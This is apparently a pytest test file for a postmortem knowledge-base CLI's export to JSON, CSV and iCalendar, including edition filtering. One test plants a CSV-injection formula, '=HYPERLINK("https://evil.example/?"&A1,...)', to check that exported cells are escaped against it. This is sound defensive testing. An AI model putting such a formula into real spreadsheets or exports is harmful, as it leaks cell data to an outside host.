"""``pmkb export``: JSON and CSV that round-trip, an iCalendar file, one edition at a time."""

from __future__ import annotations

import csv
import io
import json
from datetime import date
from pathlib import Path

import pytest
from icalendar import Calendar

from postmortem_kb import find_reports, load
from postmortem_kb.cli import main
from postmortem_kb.core.config import read_project
from postmortem_kb.core.edition import published
from postmortem_kb.terminal.export import (
    ACTION_COLUMNS,
    INCIDENT_COLUMNS,
    action_rows,
    flatten,
    incident_rows,
)
from tests.conftest import MKDOCS_YML, report_text

HOSTILE = 'Checkout "502", retries; payouts, café\tand =SUM(A1)'


def public(text: str) -> str:
    return text.replace("---\n", "---\nvisibility: public\n", 1)


@pytest.fixture
def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A project with an internal and a public report, as ``pmkb`` finds it in cwd."""
    docs = tmp_path / "docs"
    (docs / "2024").mkdir(parents=True)
    (docs / "2024" / "a.md").write_text(
        public(
            report_text(
                "INC-2024-001",
                date="2024-01-10",
                title=HOSTILE,
                tags=["checkout", "café"],
                services=["api"],
                actions=[
                    ("AI-1", "@alice", "2024-02-01", "P0", "Not Started"),
                    ("AI-2", "@bob", "2024-03-01", "P1", "Done"),
                ],
            )
        ),
        encoding="utf-8",
    )
    (docs / "2024" / "b.md").write_text(
        report_text(
            "INC-2024-002",
            date="2024-02-05",
            title="Internal only",
            related=["INC-2024-001"],
            actions=[("AI-1", "@carol", "2024-05-01", "P2", "In Progress")],
        ),
        encoding="utf-8",
    )
    (tmp_path / "mkdocs.yml").write_text(
        MKDOCS_YML.format(options=":\n      build_date: 2024-03-01", extra=""), encoding="utf-8"
    )
    monkeypatch.chdir(tmp_path)
    monkeypatch.delenv("PMKB_EDITION", raising=False)
    return tmp_path


def run(capsys: pytest.CaptureFixture[str], *args: str) -> str:
    assert main(["export", *args]) == 0
    return capsys.readouterr().out


def expected(project: Path, edition: str, what: str) -> list[dict[str, object]]:
    settings = read_project(project / "mkdocs.yml").settings.model_copy(update={"edition": edition})
    kb = published(load(find_reports(project / "docs", settings), settings))
    rows = incident_rows if what == "incidents" else action_rows
    return rows(kb, date(2024, 3, 1))


def test_json_round_trips_to_the_same_data(
    project: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    rows = json.loads(run(capsys, "--format", "json"))
    assert rows == expected(project, "internal", "incidents")
    assert [r["id"] for r in rows] == ["INC-2024-002", "INC-2024-001"]
    assert all(list(row) == list(INCIDENT_COLUMNS) for row in rows)
    first = rows[1]
    assert first["title"] == HOSTILE and first["tags"] == ["checkout", "café"]
    assert first["duration_minutes"] == 30 and first["open_action_items"] == 1
    assert first["overdue_action_items"] == 1 and first["near_miss"] is False
    assert first["summary"] == "Something broke." and first["root_cause_summary"]
    actions = json.loads(run(capsys, "--what", "actions"))
    assert actions == expected(project, "internal", "actions")
    assert [(a["report_id"], a["id"], a["overdue"]) for a in actions] == [
        ("INC-2024-001", "AI-1", True),
        ("INC-2024-001", "AI-2", False),
        ("INC-2024-002", "AI-1", False),
    ]


@pytest.mark.parametrize(
    ("what", "columns"), [("incidents", INCIDENT_COLUMNS), ("actions", ACTION_COLUMNS)]
)
def test_csv_reads_back_as_the_json_rows(
    project: Path, capsys: pytest.CaptureFixture[str], what: str, columns: tuple[str, ...]
) -> None:
    rows = json.loads(run(capsys, "--what", what))
    text = run(capsys, "--what", what, "--format", "csv")
    reader = csv.DictReader(io.StringIO(text, newline=""))
    assert tuple(reader.fieldnames or ()) == columns
    assert list(reader) == [flatten(row) for row in rows]
    assert len(text.splitlines()) == len(rows) + 1  # no row spans two lines here


def test_the_public_edition_exports_only_public_reports(
    project: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    rows = json.loads(run(capsys, "--edition", "public"))
    assert rows == expected(project, "public", "incidents")
    assert [r["id"] for r in rows] == ["INC-2024-001"]
    for fmt in ("csv", "json", "ics"):
        for what in ("incidents", "actions"):
            out = run(capsys, "--edition", "public", "--format", fmt, "--what", what)
            assert "INC-2024-002" not in out and "Internal only" not in out and "@carol" not in out
    monkeypatch.setenv("PMKB_EDITION", "public")
    assert [r["id"] for r in json.loads(run(capsys))] == ["INC-2024-001"]
    assert len(json.loads(run(capsys, "--edition", "internal"))) == 2  # the option wins


def test_calendar_export_to_a_file(project: Path, capsys: pytest.CaptureFixture[str]) -> None:
    target = project / "out" / "items.ics"
    assert main(["export", "--format", "ics", "-o", str(target)]) == 0
    assert "wrote" in capsys.readouterr().err
    events = Calendar.from_ical(target.read_bytes()).walk("VEVENT")
    assert sorted(str(e["UID"]) for e in events) == [
        "INC-2024-001-AI-1@postmortem-kb",
        "INC-2024-002-AI-1@postmortem-kb",
    ]
    assert b"\r\n" in target.read_bytes()  # RFC 5545 line endings survive the write


def test_usage_errors_exit_2(
    project: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    tmp_path: Path,
) -> None:
    monkeypatch.setenv("PMKB_EDITION", "everyone")
    assert main(["export"]) == 2
    assert "PMKB_EDITION" in capsys.readouterr().err
    monkeypatch.delenv("PMKB_EDITION")
    with pytest.raises(SystemExit) as exc:
        main(["export", "--format", "xml"])
    assert exc.value.code == 2
    empty = tmp_path / "empty"
    empty.mkdir()
    monkeypatch.chdir(empty)
    assert main(["export"]) == 2


def test_stats_follow_the_edition(project: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["stats", "--format", "json", "--edition", "public"]) == 0
    assert json.loads(capsys.readouterr().out)["incidents"] == 1
    assert main(["stats", "--format", "json"]) == 0
    assert json.loads(capsys.readouterr().out)["incidents"] == 2


def test_csv_cells_cannot_run_as_formulas(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """OWASP's CSV injection advice: a cell starting with =, +, -, @, a tab or a carriage
    return gets a leading apostrophe, so a spreadsheet shows it instead of running it."""
    docs = tmp_path / "docs"
    docs.mkdir()
    formula = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
    text = report_text(
        "INC-2024-001",
        title=formula,
        tags=["+tag"],
        actions=[("AI-1", "@alice", "2024-02-01", "P0", "Not Started")],
    ).replace("Add a safeguard", "-1 fewer retries")
    (docs / "a.md").write_text(text, encoding="utf-8")
    (docs / "b.md").write_text(
        report_text("INC-2024-002").replace("  resolved:", "  revenue_usd: .inf\n  resolved:"),
        encoding="utf-8",
    )
    (tmp_path / "mkdocs.yml").write_text(MKDOCS_YML.format(options="", extra=""), "utf-8")
    monkeypatch.chdir(tmp_path)
    incidents = list(csv.DictReader(io.StringIO(run(capsys, "--format", "csv"), newline="")))
    mine = next(row for row in incidents if row["id"] == "INC-2024-001")
    assert mine["title"] == "'" + formula and mine["tags"] == "'+tag"
    actions = list(csv.DictReader(io.StringIO(run(capsys, "--what", "actions", "--format", "csv"))))
    assert actions[0]["owner"] == "'@alice" and actions[0]["action"] == "'-1 fewer retries"

    # JSON keeps the text as written, and is valid JSON: .inf was refused (PM011), so no
    # Infinity can be written.
    def no_constants(name: str) -> None:
        raise AssertionError(f"{name} is not JSON")

    rows = json.loads(run(capsys, "--format", "json"), parse_constant=no_constants)
    assert next(r for r in rows if r["id"] == "INC-2024-001")["title"] == formula
    assert all(r["revenue_usd"] is None for r in rows)


def test_incidents_carry_their_similar_incidents_with_score_and_reasons(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    from tests.analysis.test_relate import mechanism_texts

    docs = tmp_path / "docs"
    docs.mkdir()
    for number, text in enumerate(mechanism_texts(), 1):
        (docs / f"r{number}.md").write_text(text, encoding="utf-8")
    (tmp_path / "mkdocs.yml").write_text(MKDOCS_YML.format(options="", extra=""), "utf-8")
    monkeypatch.chdir(tmp_path)
    rows = {r["id"]: r for r in json.loads(run(capsys, "--format", "json"))}
    [similar] = rows["INC-2024-001"]["similar"]
    assert similar["id"] == "INC-2024-002" and 0 < similar["score"] <= 1
    assert similar["reasons"][0].startswith("both: ") and "cpu" in similar["reasons"][0]
    assert rows["INC-2024-003"]["similar"] == []  # the certificate expiry is like no other
    text = run(capsys, "--format", "csv")
    first = next(r for r in csv.DictReader(io.StringIO(text)) if r["id"] == "INC-2024-001")
    assert first["similar"] == f"INC-2024-002 {similar['score']:.2f} [{similar['reasons'][0]}]"
